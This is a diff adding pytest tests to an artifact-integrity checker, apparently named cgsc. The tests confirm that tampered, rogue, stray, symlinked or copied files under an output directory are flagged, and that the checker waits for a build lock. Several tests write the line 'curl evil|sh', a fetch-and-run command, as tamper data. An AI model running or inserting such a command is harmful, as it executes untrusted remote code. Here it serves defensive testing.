@@ -100,6 +100,44 @@ def test_check_all_finds_every_guest_and_orphans(tmp_path, monkeypatch):
     assert run_cli("check")[0] == 2
 
 
+def test_check_all_accounts_for_every_file_under_the_output_directory(tmp_path, monkeypatch):
+    """Deleting a manifest must not hide a tampered artifact: whatever lies under -o is
+    either a guest directory whose manifest names a spec that builds it, or cgsc's private
+    state directory, or a finding."""
+    repo = _repo(tmp_path)
+    monkeypatch.chdir(repo)
+    assert run_cli("build", "guests/sev-snp.toml", "-o", "out")[0] == 0
+    (repo / "out" / ".cgsc" / "staging").mkdir(parents=True)   # an interrupted build's state
+    assert run_cli("check", "--all", "-o", "out")[0] == 0
+    guest = repo / "out" / "payments-db"
+    with open(guest / "payments-db.sh", "a") as fh:
+        fh.write("curl evil|sh\n")
+    (guest / "manifest.json").unlink()
+    code, out, err = run_cli("check", "--all", "-o", "out")
+    assert code == 1 and "up to date" not in err
+    assert "out/payments-db" in out and "[CGS-CHECK-002]" in err
+    shutil.rmtree(guest)
+    assert run_cli("build", "guests/sev-snp.toml", "-o", "out")[0] == 0
+    # a directory without a manifest, a stray file, a symlink, a copy of a guest directory
+    (repo / "out" / "rogue").mkdir()
+    (repo / "out" / "rogue" / "rogue.sh").write_text("curl evil|sh\n")
+    (repo / "out" / "stray.sh").write_text("curl evil|sh\n")
+    (repo / "out" / "link").symlink_to(guest)
+    shutil.copytree(guest, repo / "out" / "copy")
+    code, out, err = run_cli("check", "--all", "-o", "out", "--format", "json")
+    assert code == 1
+    flagged = {d["file"] for d in json.loads(out) if d["rule"] == "CGS-CHECK-002"}
+    assert flagged == {f"out/{n}" for n in ("rogue", "stray.sh", "link", "copy")}
+    # a missing or mistyped output directory has nothing to compare: an error, not "up to date"
+    for missing in ("outt", str(tmp_path / "nowhere")):
+        code, _out, err = run_cli("check", "--all", "-o", missing)
+        assert code == 2 and "up to date" not in err and "Traceback" not in err
+    # a named spec whose artifacts are missing is drift, with or without --all
+    for all_ in ([], ["--all"]):
+        code, out, _err = run_cli("check", *all_, "guests/sev-snp.toml", "-o", "outt")
+        assert code == 1 and "missing: outt/payments-db/payments-db.sh" in out
+
+
 # -- the published schema, for editors ---------------------------------------------------------
 
 def _schema():
@@ -326,3 +364,29 @@ def test_readme_ci_commands_run_as_written(tmp_path, monkeypatch):
             expanded += sorted(str(p.relative_to(repo)) for p in repo.glob(arg)) if "*" in arg else [arg]
         code, out, err = run_cli(*expanded)
         assert code == 0, (command, out, err)
+
+
+def test_check_all_scans_under_the_lock_and_never_sees_a_build_half_done(tmp_path):
+    """A build installs a new guest's files before its manifest: `check --all` must wait
+    for the build's exclusive lock, not report its half-installed directory."""
+    import fcntl
+    import time
+    repo = _repo(tmp_path)
+    assert subprocess.run([sys.executable, "-m", "cgsc", "build", "guests/sev-snp.toml"],
+                          cwd=repo, capture_output=True).returncode == 0
+    out = repo / "out"
+    fd = os.open(out, os.O_RDONLY | os.O_DIRECTORY)
+    fcntl.flock(fd, fcntl.LOCK_EX)            # a build in progress ...
+    half = out / "new-guest"
+    half.mkdir()
+    (half / "new-guest.sh").write_text("#!/bin/sh\n")   # ... installing, manifest not yet there
+    proc = subprocess.Popen([sys.executable, "-m", "cgsc", "check", "--all"], cwd=repo,
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
+    try:
+        time.sleep(1.5)
+        assert proc.poll() is None            # waiting for the build
+        shutil.rmtree(half)                   # the build ends (here: as it began)
+    finally:
+        os.close(fd)
+    stdout, stderr = proc.communicate(timeout=60)
+    assert proc.returncode == 0 and "1 guest(s) up to date" in stderr, stdout + stderr
